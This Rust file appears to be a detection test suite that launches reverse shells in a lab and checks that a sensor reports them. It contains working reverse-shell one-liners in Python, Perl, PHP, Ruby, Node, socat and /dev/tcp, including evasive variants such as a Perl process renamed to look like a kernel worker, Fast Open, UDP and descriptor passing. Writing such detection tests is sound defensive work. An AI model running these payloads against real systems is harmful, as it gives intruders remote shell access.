//! Reverse shells of scripting languages that put the connection on the shell's streams.

use std::path::Path;

use anyhow::Result;
use sensor_tests::{
    lab::{Lab, REVERSE},
    peer::{Listener, V4},
    suite::Case,
};

const PYTHON: [(&str, &str); 5] = [
    (
        "subprocess_after_dup2",
        r#"/usr/bin/python3 -c 'import socket,subprocess,os
s=socket.socket(); s.connect((os.environ["H"],int(os.environ["P"])))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])'"#,
    ),
    (
        "execve",
        r#"exec /usr/bin/python3 -c 'import socket,os
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
os.execve("/bin/bash",["bash","--norc","-i"],{})'"#,
    ),
    (
        "popen_streams",
        r#"/usr/bin/python3 -c 'import socket,subprocess,os
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
subprocess.Popen(["/bin/sh"],stdin=s,stdout=s,stderr=s).wait()'"#,
    ),
    (
        "posix_spawn",
        r#"/usr/bin/python3 -c 'import socket,os
s=socket.create_connection((os.environ["H"],int(os.environ["P"]))); f=s.fileno()
p=os.posix_spawn("/bin/sh",["-sh"],os.environ,file_actions=[(os.POSIX_SPAWN_DUP2,f,n) for n in (0,1,2)])
os.waitpid(p,0)'"#,
    ),
    (
        "spawnl_inherited_descriptor",
        r#"/usr/bin/python3 -c 'import socket,os
s=socket.create_connection((os.environ["H"],int(os.environ["P"]))); s.set_inheritable(True)
os.spawnl(os.P_WAIT,"/bin/sh","sh","-c","exec sh -i <&%d >&%d 2>&%d" % ((s.fileno(),)*3))'"#,
    ),
];

const PERL: [(&str, &str); 3] = [
    (
        "sockets_exec",
        r#"exec perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
if(connect(S,sockaddr_in($ENV{P},inet_aton($ENV{H})))){
open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'"#,
    ),
    (
        "io_socket_exec",
        r#"exec perl -MIO::Socket -e '$c=new IO::Socket::INET("$ENV{H}:$ENV{P}");
open STDIN,"<&",$c; open STDOUT,">&",$c; open STDERR,">&",$c; exec {"/bin/bash"} "-bash","--norc"'"#,
    ),
    (
        "forked_and_renamed",
        r#"perl -MIO::Socket -e 'exit if fork; $0="[kworker/0:1]"; $c=IO::Socket::INET->new("$ENV{H}:$ENV{P}");
STDIN->fdopen($c,"r"); STDOUT->fdopen($c,"w"); system("/bin/sh")'"#,
    ),
];

const PHP: [(&str, &str); 3] = [
    (
        "exec_descriptor_3",
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); exec("/bin/sh -i <&3 >&3 2>&3; true");'"#,
    ),
    (
        "shell_exec_descriptor_3",
        r#"exec php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P")); shell_exec("exec sh <&3 >&3 2>&3");'"#,
    ),
    (
        "proc_open_streams",
        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
$p=proc_open(["/bin/sh"],[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
    ),
];

const RUBY: [(&str, &str); 3] = [
    (
        "exec_sprintf",
        r#"exec ruby -rsocket -e 'f=TCPSocket.open(ENV["H"],ENV["P"]); n=f.to_i
exec(sprintf("exec /bin/sh -i <&%d >&%d 2>&%d",n,n,n),{f=>f})'"#,
    ),
    (
        "spawn_streams",
        r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); Process.wait(spawn("/bin/sh",[:in,:out,:err]=>s))'"#,
    ),
    (
        "reopened_streams",
        r#"ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); [$stdin,$stdout,$stderr].each{|i|i.reopen(s)}
exec "/bin/bash","--norc","-i"'"#,
    ),
];

/// The language's own `sh -c` has the connection first, and starts the shell that reads from it.
const THROUGH_SH: [(&str, &[&str], &str); 2] = [
    (
        "python::system",
        &["python3"],
        r#"/usr/bin/python3 -c 'import socket,os
s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
os.system("exec sh")'"#,
    ),
    (
        "php::proc_open_through_sh",
        &["php"],
        r#"php -n -r '$s=fsockopen(getenv("H"),(int)getenv("P"));
$p=proc_open("/bin/sh -i; true",[0=>$s,1=>$s,2=>$s],$pipes); proc_close($p);'"#,
    ),
];

/// Interpreters at whose prompt the peer types, and what makes them run `id`.
const PROMPTS: [(&str, &[&str], &str, &str); 3] = [
    (
        "python",
        &["python3"],
        "exec /usr/bin/python3 -i <&5 >&5 2>&5",
        "import os\nos.system('id')\n",
    ),
    (
        "perl_debugger",
        &["perl"],
        "perl -de 0 <&5 >&5 2>&5; true",
        "system('id')\n",
    ),
    ("php", &["php"], "exec php -a <&5 >&5 2>&5", "system('id');\n"),
];

/// Interpreters whose first argument is no program, so that they read one from a pipe.
const PIPED: [(&str, &[&str], &str, &str); 3] = [
    (
        "ruby_library",
        &["ruby"],
        "ruby -r json",
        // ruby runs what it has read when it meets the last line of it, and the connection stays.
        "$stdout.sync = true\nwhile line = $stdin.gets; system(line); end\n__END__\nid\n",
    ),
    (
        "node_library",
        &["node"],
        "node -r fs -i",
        "console.log(String(require('child_process').execSync('id')))\n",
    ),
    ("php_configuration", &["php"], "php -c . -a", "system('id');\n"),
];

/// The script connects to $P of 127.0.0.1; what is `typed` there makes it run `id`.
fn prompt(lab: &Lab<'_>, script: &str, typed: &str) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    lab.bash(script, &[("P", &listener.port()?.to_string())])?;
    let mut peer = listener.accept()?;
    peer.send(typed)?;
    peer.read_until("uid=")?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    drop(peer);
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |tools: &'static [&'static str], language: &str, scripts: &[(&str, &'static str)]| {
        for &(name, script) in scripts {
            cases.push(Case::new(format!("{language}::{name}"), tools, move |lab| {
                lab.reverse(script)
            }));
        }
    };
    add(&["python3"], "python", &PYTHON);
    add(&["perl"], "perl", &PERL);
    add(&["php"], "php", &PHP);
    add(&["ruby"], "ruby", &RUBY);
    // The kernel's addresses are ::ffff:127.0.0.1, the connection is IPv4.
    cases.push(Case::new("python::ipv4_mapped_ipv6", &["python3"], |lab| {
        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
s=socket.socket(socket.AF_INET6); s.connect((os.environ["H"],int(os.environ["P"])))
subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'"#;
        lab.reverse_to(&Listener::tcp(V4)?, "::ffff:127.0.0.1", script)
    }));
    // Multipath TCP: the connection has a socket of its own above those of its paths.
    cases.push(Case::new("python::multipath_tcp", &["python3"], |lab| {
        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.connect((os.environ["H"],int(os.environ["P"])))
subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=s)'"#;
        lab.reverse(script)
    }));
    // No connect(2): the first data carries the connection's request.
    cases.push(Case::new("python::fast_open", &["python3"], |lab| {
        let script = r#"/usr/bin/python3 -c 'import socket,os,subprocess
s=socket.socket(); s.sendto(b"\n",socket.MSG_FASTOPEN,(os.environ["H"],int(os.environ["P"])))
subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=s)'"#;
        lab.reverse(script)
    }));
    // One process connects, another one, to whom the connection is handed, becomes the shell.
    cases.push(Case::new("python::connection_handed_over", &["python3"], |lab| {
        let script = r#"exec /usr/bin/python3 -c 'import socket,os
a,b=socket.socketpair()
if os.fork()==0:
    s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
    socket.send_fds(a,[b"x"],[s.fileno()]); os._exit(0)
a.close(); _,fds,_,_=socket.recv_fds(b,1,1); os.wait()
[os.dup2(fds[0],fd) for fd in (0,1,2)]; os.execl("/bin/sh","sh")'"#;
        lab.reverse(script)
    }));
    for (name, tools, script) in THROUGH_SH {
        cases.push(Case::new(name, tools, move |lab| {
            lab.reverse_risen(script, Path::new("/"))
        }));
    }
    for (name, tools, script, typed) in PROMPTS {
        cases.push(Case::new(format!("prompt::{name}"), tools, move |lab| {
            prompt(lab, &format!("exec 5<>/dev/tcp/127.0.0.1/$P; {script}"), typed)
        }));
    }
    for (name, tools, program, typed) in PIPED {
        cases.push(Case::new(format!("piped_prompt::{name}"), tools, move |lab| {
            // The first run makes the file known: of one that is not, the kernel side reports every start.
            let script =
                format!(": | {program} >/dev/null 2>&1; mkfifo f; socat - TCP:127.0.0.1:$P <f | {program} >f 2>&1");
            prompt(lab, &script, typed)
        }));
    }
    cases.push(Case::new("python::udp", &["python3"], |lab| {
        let script = r#"exec /usr/bin/python3 -c 'import socket,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect((os.environ["H"],int(os.environ["P"])))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]; os.execl("/bin/sh","sh","-i")'"#;
        lab.reverse_to(&Listener::udp(V4)?, "127.0.0.1", script)
    }));
    cases
}
